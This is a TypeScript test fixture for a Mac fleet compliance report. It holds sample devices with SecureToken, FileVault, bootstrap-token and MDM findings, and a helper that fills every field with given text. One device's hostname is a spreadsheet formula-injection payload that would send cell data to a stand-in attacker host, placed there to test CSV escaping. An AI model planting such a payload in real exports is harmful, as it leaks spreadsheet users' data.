// A small fleet as the read model returns it: the demo's Macs (compliant, not escrowed, user without a
// token, FileVault off, not enrolled, Intel) plus unknown, stale, pending and exempted cases, and hostile
// text (formula, quotes, commas, newline) for the CSV guard. Given in no particular order on purpose.
import type { FleetRow } from '../../../reports/render/index.ts';
import type { Summary } from '../../../collector/services/views.ts';

/** The collector's summary of that fleet (GET /api/v1/summary), with the rates the table shows. */
export const SUMMARY: Summary = {
  generatedAt: '2026-03-02T12:00:00.000Z',
  asOf: null,
  devices: 7,
  bootstrapEscrowed: { yes: 4, no: 2, unknown: 1, percent: 57.1 },
  bootstrapUsable: { yes: 3, no: 2, unknown: 2, percent: 42.9 },
  fileVaultOn: { yes: 6, no: 1, unknown: 0, percent: 85.7 },
  mdmUpdate: { yes: 2, no: 3, unknown: 1, notApplicable: 1 },
  byStatus: { noncompliant: 4, unknown: 1, compliant: 2 },
  byRule: [
    {
      rule: 'user-without-securetoken',
      title: 'User without a SecureToken',
      severity: 'high',
      devices: 3,
      active: 3,
      pending: 0,
      exempted: 0,
    },
    {
      rule: 'stale',
      title: 'No report from the Mac for too long',
      severity: 'medium',
      devices: 1,
      active: 1,
      pending: 0,
      exempted: 0,
    },
  ],
};

export const FLEET: FleetRow[] = [
  {
    serial: 'C02ZK1ABMD6M',
    hardwareUuid: '5D1A0C5E-0E0B-4C36-9C43-2F0D1B8A7E11',
    consoleUser: 'dana',
    hostname: 'design-mbp-07',
    model: 'MacBookPro15,1',
    osVersion: '14.7.4',
    status: 'compliant',
    lastSeen: '2026-03-02T11:40:00.000Z',
    findings: [],
  },
  {
    serial: 'H4TXQ2WJ0F',
    hardwareUuid: 'A3F1C1D2-77B4-4F0E-9E0A-1C2B3D4E5F60',
    consoleUser: 'alice',
    hostname: 'alice-mba',
    model: 'Mac14,2',
    osVersion: '15.3.1',
    status: 'noncompliant',
    lastSeen: '2026-03-02T11:55:00.000Z',
    findings: [
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: 'bob',
        state: 'active',
        firstSeen: '2026-02-27T09:12:00.000Z',
        reason: 'bob has no SecureToken',
      },
      {
        rule: 'bootstrap-not-escrowed',
        severity: 'high',
        user: null,
        state: 'active',
        firstSeen: '2026-02-20T08:00:00.000Z',
        reason: 'the Mac says its Bootstrap Token is not escrowed to the MDM server',
      },
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: 'carol',
        state: 'active',
        firstSeen: '2026-03-01T10:00:00.000Z',
        reason: 'carol has no SecureToken',
      },
    ],
  },
  {
    serial: 'FVF3L0QWQ6LR',
    hardwareUuid: '0B6E2A7C-3D4F-4A1B-8C9D-E0F1A2B3C4D5',
    consoleUser: null,
    hostname: 'lab-imac-02',
    model: 'iMac21,1',
    osVersion: '15.2',
    status: 'noncompliant',
    lastSeen: '2026-03-02T10:00:00.000Z',
    findings: [
      {
        rule: 'filevault-off',
        severity: 'critical',
        user: null,
        state: 'active',
        firstSeen: '2026-01-15T12:00:00.000Z',
        reason: 'FileVault is off',
      },
    ],
  },
  {
    serial: 'C02YW0D4JG5J',
    hardwareUuid: '9E8D7C6B-5A49-4382-9170-6F5E4D3C2B1A',
    consoleUser: 'kiosk',
    hostname: 'kiosk-lobby',
    model: 'Macmini8,1',
    osVersion: '13.7.2',
    status: 'noncompliant',
    lastSeen: '2026-03-02T09:30:00.000Z',
    findings: [
      {
        rule: 'mdm-not-enrolled',
        severity: 'high',
        user: null,
        state: 'active',
        firstSeen: '2026-02-01T00:00:00.000Z',
        reason: 'the Mac says it is not enrolled in MDM',
      },
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: 'kiosk',
        state: 'exempted',
        firstSeen: '2026-01-10T00:00:00.000Z',
        reason: 'kiosk has no SecureToken',
        exemption: {
          id: 'ex-kiosk',
          reason: 'kiosk account, never unlocks the disk',
          createdBy: 'it-ops',
          expiresAt: '2026-06-30T00:00:00.000Z',
        },
      },
    ],
  },
  {
    serial: 'K7G2MX19PQ',
    hardwareUuid: '1F2E3D4C-5B6A-4798-8A9B-0C1D2E3F4A5B',
    consoleUser: 'dave',
    hostname: 'sales-mba-12',
    model: 'Mac15,12',
    osVersion: '15.3.1',
    status: 'unknown',
    lastSeen: '2026-03-02T11:00:00.000Z',
    findings: [
      {
        rule: 'collection-incomplete',
        severity: 'info',
        user: null,
        state: 'active',
        firstSeen: '2026-03-02T11:00:00.000Z',
        reason:
          'collection errors left user-without-securetoken and no-securetoken-holder unknown: sysadminctl: "user dave: timed out after 10000 ms"',
      },
    ],
  },
  {
    serial: 'R9VN4TQ2LX',
    hardwareUuid: '7A6B5C4D-3E2F-4A1B-9C8D-7E6F5A4B3C2D',
    consoleUser: 'erin',
    hostname: 'new-hire-mba',
    model: 'Mac16,12',
    osVersion: '15.3.1',
    status: 'compliant',
    lastSeen: '2026-03-02T11:58:00.000Z',
    findings: [
      {
        rule: 'no-volume-owner',
        severity: 'critical',
        user: null,
        state: 'pending',
        firstSeen: '2026-03-02T11:30:00.000Z',
        reason: 'none of erin is a volume owner',
        pendingUntil: '2026-03-03T11:30:00.000Z',
      },
    ],
  },
  {
    serial: 'C07DQ1XYPJ',
    hardwareUuid: '2C3D4E5F-6A7B-4C8D-9E0F-1A2B3C4D5E6F',
    consoleUser: '@admin',
    hostname: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    model: null,
    osVersion: null,
    status: 'noncompliant',
    lastSeen: '2026-02-10T07:00:00.000Z',
    findings: [
      {
        rule: 'stale',
        severity: 'medium',
        user: null,
        state: 'active',
        firstSeen: '2026-02-17T07:00:00.000Z',
        reason: 'no report for 20 days (last seen 2026-02-10T07:00:00.000Z; stale after 7 days)',
      },
      {
        rule: 'bootstrap-unusable',
        severity: 'high',
        user: null,
        state: 'active',
        firstSeen: '2026-02-01T07:00:00.000Z',
        reason: 'the token is escrowed but mdmclient says EACSPreflight = "failed, error 5"\nsee mdmclient',
      },
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: '@admin',
        state: 'active',
        firstSeen: '2026-02-01T07:00:00.000Z',
        reason: '-1 tokens for @admin, sadly',
      },
    ],
  },
];

/** A noncompliant device whose every text field (its findings' too) is `text`. */
export function hostileRow(text: string): FleetRow {
  return {
    serial: text,
    hardwareUuid: text,
    consoleUser: text,
    hostname: text,
    model: text,
    osVersion: text,
    status: 'noncompliant',
    lastSeen: text,
    findings: [
      {
        rule: 'user-without-securetoken',
        severity: 'high',
        user: text,
        state: 'active',
        firstSeen: text,
        reason: text,
      },
      {
        rule: 'filevault-off',
        severity: 'critical',
        user: null,
        state: 'pending',
        firstSeen: text,
        reason: text,
      },
    ],
  };
}
